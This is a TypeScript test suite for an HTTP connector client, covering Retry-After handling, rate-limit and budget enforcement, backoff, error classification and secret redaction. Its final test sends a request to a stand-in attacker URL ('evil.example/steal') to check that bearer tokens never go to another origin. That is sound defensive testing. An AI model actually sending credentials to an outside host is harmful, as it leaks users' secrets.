import { assert, describe, it } from "@effect/vitest"
import { Effect, Fiber, Redacted } from "effect"
import { HttpClient, HttpClientResponse } from "effect/http"
import { TestClock } from "effect/testing"
import { ConnectorError, Http } from "../src/index.ts"

type Scripted = { readonly status: number; readonly body?: string; readonly headers?: Record<string, string> }

let credential = 0
/** A client answering from a script, recording the requests it saw. */
const scripted = (script: ReadonlyArray<Scripted>, options: Partial<Http.Options> = {}) =>
  Effect.gen(function* () {
    const seen: Array<{ url: string; authorization: string | undefined }> = []
    const stub = HttpClient.make((request) =>
      Effect.sync(() => {
        const answer = script[Math.min(seen.length, script.length - 1)] as Scripted
        seen.push({ url: request.url, authorization: request.headers.authorization })
        return HttpClientResponse.fromWeb(
          request,
          new Response(answer.body ?? "{}", { status: answer.status, headers: answer.headers ?? {} })
        )
      })
    )
    const client = yield* Http.make({
      baseUrl: "http://127.0.0.1:9",
      auth: { _tag: "Bearer", token: Redacted.make(`token-${++credential}`) },
      ...options
    }).pipe(Effect.provideService(HttpClient.HttpClient, stub))
    return { client, seen }
  })

describe("Http", () => {
  it("parses Retry-After as seconds or an HTTP date", () => {
    assert.strictEqual(Http.parseRetryAfter("120", 0), 120_000)
    assert.strictEqual(
      Http.parseRetryAfter("Wed, 21 Oct 2015 07:28:00 GMT", Date.UTC(2015, 9, 21, 7, 27, 30)),
      30_000
    )
    assert.strictEqual(Http.parseRetryAfter("Wed, 21 Oct 2015 07:28:00 GMT", Date.UTC(2016, 0, 1)), 0)
    assert.strictEqual(Http.parseRetryAfter("later", 0), undefined)
  })

  it.effect("waits exactly as long as Retry-After asks before retrying", () =>
    Effect.gen(function* () {
      const { client, seen } = yield* scripted([
        { status: 429, headers: { "retry-after": "5" } },
        { status: 200, body: '{"ok":1}' }
      ])
      const fiber = yield* Effect.forkChild(client.get("/x"))
      yield* TestClock.adjust("4999 millis")
      assert.strictEqual(fiber.pollUnsafe(), undefined)
      assert.strictEqual(seen.length, 1)
      yield* TestClock.adjust("1 millis")
      const response = yield* Fiber.join(fiber)
      assert.deepStrictEqual(response.body, { ok: 1 })
      assert.strictEqual(seen.length, 2)
    })
  )

  it.effect("respect: a used-up window makes the next request wait until reset, on the Clock", () =>
    Effect.gen(function* () {
      const { client, seen } = yield* scripted(
        [
          { status: 200, headers: { "x-ratelimit-remaining": "0.0", "x-ratelimit-reset": "30" } },
          { status: 200, headers: { "x-ratelimit-remaining": "99.0", "x-ratelimit-reset": "600" } }
        ],
        { respect: { remaining: "X-Ratelimit-Remaining", reset: "X-Ratelimit-Reset", resetIn: "seconds" } }
      )
      yield* client.get("/first")
      const fiber = yield* Effect.forkChild(Effect.andThen(client.get("/second"), client.get("/third")))
      yield* TestClock.adjust("29999 millis")
      assert.strictEqual(seen.length, 1)
      yield* TestClock.adjust("1 millis")
      yield* Fiber.join(fiber)
      // requests were left after the second answer: the third went at once
      assert.strictEqual(seen.length, 3)
    })
  )

  it.effect("respect: an epoch-seconds reset in the past does not wait", () =>
    Effect.gen(function* () {
      yield* TestClock.setTime(1_716_206_400_000)
      const { client, seen } = yield* scripted(
        [{ status: 200, headers: { "x-rate-limit-remaining": "0", "x-rate-limit-reset": "1716206300" } }],
        {
          respect: {
            remaining: "x-rate-limit-remaining",
            reset: "x-rate-limit-reset",
            resetIn: "epoch-seconds"
          }
        }
      )
      yield* client.get("/a")
      yield* client.get("/b")
      assert.strictEqual(seen.length, 2)
    })
  )

  it.effect("honours an HTTP-date Retry-After and rate-limit reset headers", () =>
    Effect.gen(function* () {
      const { client, seen } = yield* scripted([
        { status: 429, headers: { "retry-after": "Thu, 01 Jan 1970 00:00:10 GMT" } },
        { status: 429, headers: { "x-ratelimit-remaining": "0", "x-ratelimit-reset": "3" } },
        { status: 200 }
      ])
      const fiber = yield* Effect.forkChild(client.get("/x"))
      yield* TestClock.adjust("9999 millis")
      assert.strictEqual(seen.length, 1)
      yield* TestClock.adjust("1 millis")
      assert.strictEqual(seen.length, 2)
      yield* TestClock.adjust("2999 millis")
      assert.strictEqual(seen.length, 2)
      yield* TestClock.adjust("1 millis")
      yield* Fiber.join(fiber)
      assert.strictEqual(seen.length, 3)
    })
  )

  it.effect("backs off exponentially on 5xx and gives up after `times` retries as transient", () =>
    Effect.gen(function* () {
      const { client, seen } = yield* scripted([{ status: 503 }], { retry: { times: 3, base: "100 millis" } })
      const fiber = yield* Effect.forkChild(Effect.flip(client.get("/x")))
      yield* TestClock.adjust("10 seconds")
      const error = yield* Fiber.join(fiber)
      assert.strictEqual(error.reason, "transient")
      assert.strictEqual(error.status, 503)
      assert.strictEqual(seen.length, 4)
    })
  )

  it.effect("classifies without retrying: 401 auth, 404 source bug, a day-long 429 quota", () =>
    Effect.gen(function* () {
      const reasons: Array<string> = []
      for (const answer of [
        { status: 401, body: '{"message":"bad token"}' },
        { status: 404 },
        { status: 429, headers: { "retry-after": "86400" } },
        { status: 429, body: '{"error":"Daily quota exceeded"}' },
        { status: 403, body: "monthly usage limit reached" }
      ]) {
        const { client, seen } = yield* scripted([answer])
        reasons.push((yield* Effect.flip(client.get("/x"))).reason)
        assert.strictEqual(seen.length, 1)
      }
      assert.deepStrictEqual(reasons, [
        "auth",
        "source-bug",
        "quota-exhausted",
        "quota-exhausted",
        "quota-exhausted"
      ])
    })
  )

  it.effect("handles non-JSON error bodies and retries a non-JSON 200", () =>
    Effect.gen(function* () {
      const { client, seen } = yield* scripted([
        { status: 502, body: "<html><h1>502 Bad Gateway</h1></html>" },
        { status: 200, body: "<html>maintenance</html>" },
        { status: 200, body: "[1]" }
      ])
      const fiber = yield* Effect.forkChild(client.get("/x"))
      yield* TestClock.adjust("1 minute")
      assert.deepStrictEqual((yield* Fiber.join(fiber)).body, [1])
      assert.strictEqual(seen.length, 3)
      const { client: once } = yield* scripted(
        [{ status: 502, body: "<html><h1>502 Bad Gateway</h1></html>" }],
        {
          retry: { times: 0 }
        }
      )
      const error = yield* Effect.flip(once.get("/x"))
      assert.strictEqual(error.message, "GET /x answered 502: 502 Bad Gateway")
    })
  )

  it.effect("limits requests per credential on the clock", () =>
    Effect.gen(function* () {
      const { client, seen } = yield* scripted([{ status: 200 }], {
        rateLimit: { requests: 2, per: "1 second" }
      })
      const fiber = yield* Effect.forkChild(Effect.forEach([1, 2, 3], () => client.get("/x")))
      const settle = TestClock.withLive(Effect.sleep("30 millis"))
      yield* settle
      assert.strictEqual(seen.length, 2)
      yield* TestClock.adjust("499 millis")
      yield* settle
      assert.strictEqual(seen.length, 2)
      yield* TestClock.adjust("1 millis")
      yield* Fiber.join(fiber)
      assert.strictEqual(seen.length, 3)
    })
  )

  it.effect("enforces a request budget", () =>
    Effect.gen(function* () {
      const { client, seen } = yield* scripted([{ status: 200 }], { budget: 2 })
      yield* client.get("/a")
      yield* client.get("/b")
      const error = yield* Effect.flip(client.get("/c"))
      assert.strictEqual(error.reason, "quota-exhausted")
      assert.strictEqual(seen.length, 2)
    })
  )

  it.effect("never sends credentials to another origin and scrubs secrets from errors", () =>
    Effect.gen(function* () {
      const { client, seen } = yield* scripted([
        { status: 400, body: `{"message":"bad key token-${credential + 1}"}` }
      ])
      const elsewhere = yield* Effect.flip(client.get("https://evil.example/steal"))
      assert.strictEqual(elsewhere.reason, "source-bug")
      assert.strictEqual(seen.length, 0)
      const echoed = yield* Effect.flip(client.get("/x"))
      assert.strictEqual(echoed.message, "GET /x answered 400: bad key <redacted>")
      assert.strictEqual(seen[0]?.authorization, `Bearer token-${credential}`)
      assert.isTrue(ConnectorError.isConnectorError(echoed))
    })
  )
})
